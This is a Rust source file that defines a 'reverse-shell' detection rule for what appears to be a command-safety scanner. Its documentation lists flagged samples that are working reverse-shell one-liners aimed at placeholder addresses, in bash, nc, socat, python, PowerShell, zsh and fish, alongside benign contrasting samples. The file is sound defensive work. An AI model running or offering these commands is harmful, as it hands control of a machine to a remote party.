//! The rule `reverse-shell`.

use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
use crate::safety::{Effect, EffectKind, Risk, TargetClass};
declare_rule! {
    /// Connects a shell to the network.
    ///
    /// ## Why
    /// Whoever is at the other end types commands here, with your rights.
    ///
    /// ```sh,flagged
    /// bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
    /// nc -e /bin/sh 10.0.0.1 4444
    /// nc 10.0.0.1 4444 | sh
    /// exec bash < /dev/tcp/10.0.0.1/4444
    /// socat TCP:10.0.0.1:4444 EXEC:/bin/bash
    /// python3 -c 'import socket,pty;s=socket.socket();s.connect(("10.0.0.1",1));pty.spawn("/bin/sh")'
    /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
    /// ```
    /// ```sh,clean
    /// nc -zv example.com 443
    /// bash -i
    /// nc -l 8080 > received.txt
    /// nc -l -p 1500 -c 'echo hello'
    /// echo 'nc -e /bin/sh host 1'
    /// ```
    /// ```powershell,flagged
    /// $c=New-Object Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);$r=iex $d|Out-String;$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}
    /// ```
    /// ```powershell,clean
    /// Test-NetConnection example.com -Port 443
    /// ```
    /// ```zsh,flagged
    /// ztcp 203.0.113.7 4444; zsh -i <&$REPLY >&$REPLY
    /// coproc nc 203.0.113.7 4444; zsh -i <&p >&p
    /// ```
    /// ```zsh,clean
    /// ztcp localhost 8080; print -u $REPLY 'GET / HTTP/1.0'
    /// ```
    /// ```fish,flagged
    /// nc -e (command -s fish) 203.0.113.7 443
    /// ```
    /// ```fish,clean
    /// nc -zv example.com 443
    /// ```
    REVERSE_SHELL { name: "reverse-shell", subject: Subject::Effects(&[EffectKind::RemoteShell], judge) }
}

fn judge(effect: &Effect, _scene: &Scene<'_>) -> Option<Alarm> {
    let host =
        if effect.target.class == TargetClass::Host { effect.target.text.as_str() } else { "the network" };
    Some(Alarm::new(
        Risk::Critical,
        format!("Connects a shell to {host}: whoever is there runs commands here."),
    ))
}
